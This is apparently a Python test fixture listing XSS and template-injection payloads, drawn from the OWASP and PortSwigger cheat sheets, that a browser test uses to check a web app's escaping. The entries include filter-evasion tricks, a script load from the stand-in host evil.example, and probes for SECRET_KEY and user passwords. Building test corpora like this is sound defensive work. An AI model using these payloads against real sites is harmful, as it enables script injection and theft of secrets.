"""An XSS corpus: markup that, were it ever rendered unescaped, would run script.

Each payload, when it runs, calls ``alert(1)`` or sets ``window.__xss``; the browser test
watches for both. None contains a newline (``linebreaksbr`` would change the text) or a NUL
(no form accepts one). Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS
cheat sheet, and template-injection probes for Django and Jinja.
"""

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    # Broken-out attributes
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"><svg/onload=window.__xss=1>',
    "`><img src=x onerror=alert(1)>",
    # javascript: and data: URLs
    "<a href=javascript:alert(1)>click</a>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "<a href=JaVaScRiPt:alert(1)>click</a>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    # CSS
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    # Entities and encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # Unicode tricks
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<img src=x one\u00adrror=alert(1)>",  # soft hyphen
    "\ufeff<script>alert(1)</script>",
    # Template syntax (Django and Jinja): must show as typed, never be evaluated
    "{{ 7|add:7 }}{{ request.user.password }}",
    "{% debug %}",
    "{% load static %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    # JSON and script-context breakers (chart data travels in json_script)
    "</script><img src=x onerror=alert(1)>",
    '"};alert(1);//',
    "';alert(1);//",
]
